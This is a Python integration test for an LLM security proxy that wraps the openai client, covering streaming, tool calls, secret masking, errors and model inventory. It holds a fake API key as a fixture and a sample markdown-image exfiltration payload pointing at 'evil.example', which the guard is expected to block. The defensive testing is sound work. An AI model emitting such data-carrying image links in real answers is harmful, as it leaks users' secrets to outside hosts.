#!/usr/bin/env python3
"""The official `openai` client, unchanged, through the guard: streaming and not, tools, several choices, errors, leaving early;
then `aispm scan guard:LOG` must show which application uses which model.

usage: client.py AISPM
"""
import asyncio, json, subprocess, sys, time, urllib.request

import openai
from pydantic import BaseModel

from run import guarded

KEY = "gsk_" + "a8Kd93jQmZxP2LrT5wVb7NcY4hFgS6eU1oXiB0tDqRyJpWnM3vCs"
TOOLS = [{"type": "function", "function": {"name": "weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"], "additionalProperties": False}, "strict": True}}]
PASSED = 0


def check(what, true):
    global PASSED
    if not true:
        sys.exit(f"FAILED {what}")
    PASSED += 1
    print(f"ok {what}")


def told(**plan):
    return [{"role": "user", "content": json.dumps(plan)}]


class Place(BaseModel):
    city: str
    people: int


def talk(client, api):
    chat = client.chat.completions
    text = "**Grüße** from `here`: [docs](https://docs.acme.example/a), 你好 👩‍💻.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    whole = chat.create(model="small-1", messages=told(say=[text]))
    check("a whole answer, its usage and its id", (whole.choices[0].message.content, whole.usage.total_tokens, whole.id) == (text, 3, "chatcmpl-1"))
    for cut in (1, 7, 500):
        stream = chat.create(model="small-1", messages=told(say=[text], cut=cut), stream=True, stream_options={"include_usage": True})
        seen = list(stream)
        check(f"a stream in deltas of {cut}", "".join(c.choices[0].delta.content or "" for c in seen if c.choices) == text)
        check("its end and its usage", [c.choices[0].finish_reason for c in seen if c.choices][-1] == "stop" and seen[-1].usage.total_tokens == 3)
    several = chat.create(model="small-1", n=3, messages=told(say=["one ", "two ", "three "]), stream=True)
    texts = ["", "", ""]
    for chunk in several:
        for choice in chunk.choices:
            texts[choice.index] += choice.delta.content or ""
    check("three choices at once", texts == ["one ", "two ", "three "])

    arguments = '{"city":"Málaga"}'
    call = {"name": "weather", "arguments": arguments}
    asked = chat.create(model="small-1", tools=TOOLS, messages=told(call=call)).choices[0]
    check("a tool call, whole", (asked.finish_reason, asked.message.tool_calls[0].function.arguments, asked.message.content) == ("tool_calls", arguments, None))
    with chat.stream(model="small-1", tools=TOOLS, messages=told(call=call, cut=3)) as stream:
        for event in stream:
            pass
        final = stream.get_final_completion().choices[0]
    check("a tool call, streamed, through the client's own helper", final.message.tool_calls[0].function.parsed_arguments == {"city": "Málaga"})
    history = told(call=call) + [final.message.model_dump(exclude={"parsed"}, exclude_none=True), {"role": "tool", "tool_call_id": "call_0", "content": "sunny"}]
    check("the tool's answer goes back", chat.create(model="small-1", tools=TOOLS, messages=history).choices[0].message.content == "sunny")
    secret = chat.create(model="small-1", tools=TOOLS, messages=told(call={"name": "weather", "arguments": json.dumps({"city": KEY})}))
    masked = json.loads(secret.choices[0].message.tool_calls[0].function.arguments)["city"]
    check("a key in a call's arguments is masked", KEY not in masked and masked.startswith("gsk_"))
    place = chat.parse(model="small-1", response_format=Place, messages=told(say=['{"city": "Málaga", "people": 591637}']))
    check("a structured answer", place.choices[0].message.parsed == Place(city="Málaga", people=591637))

    for stream in (False, True):
        got = chat.create(model="small-1", messages=told(say=[f"The key is {KEY}.\n"], cut=5), stream=stream)
        text = "".join(c.choices[0].delta.content or "" for c in got if c.choices) if stream else got.choices[0].message.content
        check(f"a key is masked, streamed: {stream}", text.startswith("The key is gsk_") and KEY[8:] not in text)
        got = chat.create(model="small-1", messages=told(say=["Look ![x](https://evil.example/?q=secret) here\n"], cut=5), stream=stream)
        last = ([c.choices[0] for c in got if c.choices][-1] if stream else got.choices[0])
        check(f"a picture that carries text away ends the answer, streamed: {stream}", last.finish_reason == "content_filter")

    check("the list of models", [m.id for m in client.models.list()] == ["small-1"])
    check("embeddings", client.embeddings.create(model="e-1", input="x").data[0].embedding == [1.0, 2.0])
    for status, kind in ((429, openai.RateLimitError), (400, openai.BadRequestError), (500, openai.InternalServerError)):
        try:
            chat.create(model="small-1", messages=told(status=status))
            check(f"error {status}", False)
        except kind as e:
            check(f"error {status} is the client's {kind.__name__}", (e.code, "As you asked." in str(e)) == ("as_asked", True))
    try:
        client.responses.create(model="small-1", input="x")
        check("the responses API", False)
    except openai.PermissionDeniedError as e:
        check("a call that cannot be judged is refused", e.code == "guard_unjudged_call")
    try:
        client.with_options(api_key="wrong").models.list()
        check("a wrong token", False)
    except openai.AuthenticationError:
        check("a wrong token is the client's AuthenticationError", True)
    stream = chat.create(model="small-1", messages=told(say=["word " * 50], wait=True), stream=True)
    next(iter(stream))
    stream.close()
    deadline = time.monotonic() + 10
    while json.load(urllib.request.urlopen(api + "/cancelled"))["cancelled"] == 0 and time.monotonic() < deadline:
        time.sleep(0.05)
    check("a client that leaves ends the upstream's answer", json.load(urllib.request.urlopen(api + "/cancelled"))["cancelled"] == 1)


async def talk_at_once(base):
    client = openai.AsyncOpenAI(base_url=base, api_key="token-of-search-agent", max_retries=0)
    async def one(n):
        text = f"answer {n}: " + "lorem ipsum " * 40
        stream = await client.chat.completions.create(model="small-2", messages=told(say=[text], cut=4), stream=True)
        return "".join([c.choices[0].delta.content or "" async for c in stream if c.choices]) == text
    check("forty streams at once", all(await asyncio.gather(*(one(n) for n in range(40)))))


def inventory(aispm, log):
    out = log.parent / "report.json"
    subprocess.run([aispm, "scan", f"guard:{log}", "--no-store", "--format", "json", "-o", out, "--fail-on", "never", "-q"], check=True)
    report = json.loads(out.read_text())
    uses = {(r["from"], r["to"]) for r in report["relations"] if r["kind"] == "uses"}
    want = {("workload:guard/support-bot", "model:acme/small-1"), ("workload:guard/support-bot", "model:acme/e-1"), ("workload:guard/search-agent", "model:acme/small-2")}
    check("inventory: which application uses which model", uses == want)
    check("no key in log or report", all(KEY not in p.read_text() and "token-of" not in p.read_text() for p in (log, out)))


def main():
    route = 'sink = "markdown"\nprovider = "acme"\nallow_hosts = ["docs.acme.example"]'
    with guarded(sys.argv[1], {"/v1": route}, clients=("support-bot", "search-agent")) as (base, api, log, _):
        talk(openai.OpenAI(base_url=base + "/v1", api_key="token-of-support-bot", max_retries=0), api)
        asyncio.run(talk_at_once(base + "/v1"))
        inventory(sys.argv[1], log)
    print(f"openai {openai.__version__}: {PASSED} passed, 0 failed")


main()
